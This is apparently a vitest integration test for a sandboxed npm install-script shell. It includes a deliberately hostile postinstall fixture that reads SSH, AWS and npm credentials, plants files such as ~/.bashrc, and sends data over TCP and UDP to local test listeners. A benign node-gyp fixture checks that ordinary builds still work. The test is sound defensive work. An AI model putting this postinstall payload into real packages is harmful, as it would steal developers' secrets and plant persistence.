/**
 * npm integration: with `script-shell=jail-sh` in the project's .npmrc, a
 * dependency's install script that npm 11 lets run (allow-scripts) is
 * jailed. A hostile fixture tries to read a HOME secret, write outside its
 * package and connect out; a benign one builds a native addon with node-gyp.
 */
import { execFileSync, spawn } from 'node:child_process';
import * as dgram from 'node:dgram';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPO, makeWorld, removeWorld, strictJail, type World, inFallback } from './harness.js';

let w: World;
const got: string[] = [];
let tcp: net.Server;
let udp: dgram.Socket;
let tcpPort = 0;
let udpPort = 0;

/** The hostile postinstall: every attack leaves its result where the test can see it. */
const evil = (p: { home: string; outside: string; tcpPort: number; udpPort: number }) => `
const fs = require('fs'), net = require('net'), dgram = require('dgram'), path = require('path');
const log = (k, v) => fs.appendFileSync('attempts.log', k + ': ' + v + '\\n');
fs.writeFileSync('marker', 'postinstall ran');
for (const f of ['.ssh/id_ed25519', '.aws/credentials', '.npmrc']) {
  try { const s = fs.readFileSync(path.join(${JSON.stringify(p.home)}, f), 'utf8'); fs.writeFileSync('stolen-' + path.basename(f), s); console.log('STOLEN', s); log('read ' + f, 'ok'); }
  catch (e) { log('read ' + f, e.code); }
}
for (const f of [${JSON.stringify(p.outside + '/planted.txt')}, path.join(${JSON.stringify(p.home)}, '.bashrc'), path.resolve('../../src/planted.js'), path.resolve('../../.git-hooks-planted')]) {
  try { fs.writeFileSync(f, 'planted'); log('write ' + f, 'ok'); } catch (e) { log('write ' + f, e.code); }
}
const s = net.connect(${p.tcpPort}, '127.0.0.1', () => { s.end('exfil-tcp'); log('tcp', 'ok'); });
s.on('error', (e) => log('tcp', e.code));
try {
  const u = dgram.createSocket('udp4');
  u.on('error', (e) => log('udp', e.code));
  u.send('exfil-udp', ${p.udpPort}, '127.0.0.1', (e) => { log('udp', e ? e.code : 'sent'); u.close(); });
} catch (e) { log('udp', e.code); }
`;

beforeAll(async () => {
  w = makeWorld('npm');
  tcp = net.createServer((c) => c.on('data', (d) => got.push(String(d))));
  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
  tcpPort = (tcp.address() as net.AddressInfo).port;
  udp = dgram.createSocket('udp4');
  udp.on('message', (m) => got.push(String(m)));
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  udpPort = udp.address().port;

  const pkg = (name: string, files: Record<string, string>) => {
    const dir = path.join(w.root, 'fixtures', name);
    fs.mkdirSync(dir, { recursive: true });
    for (const [f, text] of Object.entries(files)) fs.writeFileSync(path.join(dir, f), text);
    execFileSync('npm', ['pack', '--silent', '--pack-destination', path.join(w.root, 'fixtures')], { cwd: dir, env: { ...process.env, HOME: w.home } });
    return path.join(w.root, 'fixtures', `${name}-1.0.0.tgz`);
  };
  pkg('evil-fixture', {
    'package.json': JSON.stringify({ name: 'evil-fixture', version: '1.0.0', scripts: { postinstall: 'node postinstall.js' } }),
    'postinstall.js': evil({ home: w.home, outside: w.outside, tcpPort, udpPort }),
  });
  pkg('benign-gyp', {
    'package.json': JSON.stringify({ name: 'benign-gyp', version: '1.0.0', main: 'index.js', gypfile: true }),
    'binding.gyp': JSON.stringify({ targets: [{ target_name: 'hello', sources: ['hello.c'] }] }),
    'hello.c':
      '#include <node_api.h>\n' +
      'static napi_value Hello(napi_env env, napi_callback_info info) { napi_value s; napi_create_string_utf8(env, "built", NAPI_AUTO_LENGTH, &s); return s; }\n' +
      'NAPI_MODULE_INIT() { napi_value f; napi_create_function(env, "hello", NAPI_AUTO_LENGTH, Hello, NULL, &f); return f; }\n',
    'index.js': "module.exports = require('./build/Release/hello.node');\n",
  });
}, 120_000);

afterAll(async () => {
  tcp?.close();
  udp?.close();
  removeWorld(w);
});

/** `npm install` both fixtures into a fresh project; jailed or not. */
async function install(jailed: boolean) {
  const proj = path.join(w.root, jailed ? 'jailed-project' : 'open-project');
  fs.mkdirSync(path.join(proj, 'src'), { recursive: true });
  fs.writeFileSync(path.join(proj, 'package.json'), JSON.stringify({ name: 'victim', version: '1.0.0', private: true }));
  fs.writeFileSync(
    path.join(proj, '.npmrc'),
    'allow-scripts=evil-fixture,benign-gyp\n' + (jailed ? `script-shell=${path.join(REPO, 'bin', 'jail-sh.cjs')}\n` : ''),
  );
  const env = { ...w.env, npm_config_nodedir: '/usr', npm_config_update_notifier: 'false' };
  const child = spawn('npm', ['install', '--no-audit', '--no-fund', '--prefer-offline', '../fixtures/evil-fixture-1.0.0.tgz', '../fixtures/benign-gyp-1.0.0.tgz'], {
    cwd: proj,
    env,
  });
  let out = '';
  child.stdout.on('data', (d) => (out += d));
  child.stderr.on('data', (d) => (out += d));
  const code = await new Promise<number | null>((r) => child.on('exit', r));
  await new Promise((r) => setTimeout(r, 300)); // let the listeners read
  const evilDir = path.join(proj, 'node_modules', 'evil-fixture');
  const read = (f: string) => (fs.existsSync(path.join(evilDir, f)) ? fs.readFileSync(path.join(evilDir, f), 'utf8') : '');
  return { proj, code, out, evilDir, read };
}

describe('npm install with the jailed script-shell', () => {
  strictJail.it('runs the hostile install script, and none of its attacks succeed', async () => {
    got.length = 0;
    const r = await install(true);
    expect(r.code, r.out).toBe(0);
    expect(r.read('marker')).toBe('postinstall ran'); // it did run
    const attempts = r.read('attempts.log');
    expect(attempts).toMatch(/tcp: \w+/);
    expect(attempts).toMatch(/udp: \w+/);
    // In the namespace layer ~/.npmrc is the sanitised copy: read, no token
    // in it (checked below); nothing else succeeds in either layer.
    expect(attempts.replace(inFallback ? '' : 'read .npmrc: ok\n', '')).not.toMatch(/: ok\b/);
    expect(attempts).toMatch(inFallback ? /read \.ssh\/id_ed25519: EACCES/ : /read \.ssh\/id_ed25519: ENOENT/);
    for (const s of Object.values(w.secrets)) {
      expect(r.out).not.toContain(s);
      expect(attempts + r.read('stolen-id_ed25519') + r.read('stolen-credentials') + r.read('stolen-.npmrc')).not.toContain(s);
    }
    expect(fs.existsSync(path.join(w.outside, 'planted.txt'))).toBe(false);
    expect(fs.existsSync(path.join(w.home, '.bashrc'))).toBe(false);
    expect(fs.existsSync(path.join(r.proj, 'src', 'planted.js'))).toBe(false);
    expect(fs.existsSync(path.join(r.proj, '.git-hooks-planted'))).toBe(false);
    expect(got).toEqual([]);
  });

  strictJail.it('still builds a benign dependency with node-gyp', async () => {
    const r = await install(true);
    expect(r.code, r.out).toBe(0);
    const addon = path.join(r.proj, 'node_modules', 'benign-gyp');
    expect(execFileSync(process.execPath, ['-p', `require(${JSON.stringify(addon)})()`], { encoding: 'utf8' })).toBe('built\n');
  });

  it('control: without the jail, the same install script steals and plants', async () => {
    got.length = 0;
    const r = await install(false);
    expect(r.code, r.out).toBe(0);
    expect(r.read('stolen-id_ed25519')).toContain(w.secrets.ssh);
    expect(fs.existsSync(path.join(w.outside, 'planted.txt'))).toBe(true);
    expect(got.sort()).toEqual(['exfil-tcp', 'exfil-udp']);
    fs.rmSync(path.join(w.outside, 'planted.txt'));
    fs.rmSync(path.join(w.home, '.bashrc'), { force: true });
  });
});
